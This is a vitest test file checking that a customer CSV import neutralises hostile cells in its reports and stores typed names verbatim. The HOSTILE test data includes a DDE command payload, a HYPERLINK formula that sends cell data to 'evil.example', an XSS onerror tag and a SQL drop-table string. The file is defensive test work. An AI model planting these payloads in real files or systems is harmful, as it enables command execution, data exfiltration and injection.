import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, expect, test } from 'vitest'
import { csvLine } from '#kernel/csv-line.ts'
import { importCustomers } from '#modules/customers/public.ts'
import { aCustomerBase } from '#test/customers-ground.ts'
import { aGround } from '#test/harness.ts'

// osTicket's exports carried formulas (9981848); LimeSurvey's import result showed cells as HTML (CVE-2026-92730).
const ground = await aGround()
const base = await aCustomerBase(ground)
const folder = mkdtempSync(join(tmpdir(), 'acuse-csv-'))
afterAll(() => rmSync(folder, { recursive: true }))

const HOSTILE = ['=1+1', '=cmd|\' /C calc\'!A0', '+1+1', '-1+1', '@SUM(1)', '\t=1', '=HYPERLINK("http://evil.example/?"&A1,"x")', '<img src=x onerror=alert(1)>', "'; drop table customers; --"]

test('no cell of a report runs in a spreadsheet, whatever was imported', async () => {
  const path = join(folder, 'hostile.csv')
  writeFileSync(path, `Código,Nombre,NIT\r\n${HOSTILE.map((cell, at) => csvLine([`H${at}`, `_${cell}`, `${cell} 1`], ',').replaceAll(',_', ',')).join('')}`)
  const reportPath = join(folder, 'report.csv')
  const { refused } = await importCustomers(ground, base.actor, { path, reportPath })
  expect(refused).toBe(HOSTILE.length)
  const cells = readFileSync(reportPath, 'utf8').slice(1).split(/\r\n|;/).map((cell) => cell.replace(/^"/, ''))
  expect(cells.filter((cell) => /^[=+@\t\r-]/.test(cell))).toEqual([])
})

test('what was typed as a name is a name, and nothing else', async () => {
  const path = join(folder, 'names.csv')
  writeFileSync(path, `Código,Nombre\r\n${HOSTILE.map((cell, at) => `N${at},"${cell.replaceAll('"', '""')}"\r\n`).join('')}`)
  expect(await importCustomers(ground, base.actor, { path })).toMatchObject({ created: HOSTILE.length, refused: 0 })
  const kept = await ground.db.asOwner((tx) => tx<{ name: string }>`select name from customers where organisation_id = ${base.organisationId} order by code`)
  expect(kept.map(({ name }) => name)).toEqual(HOSTILE.map((cell) => cell.trim()))
})
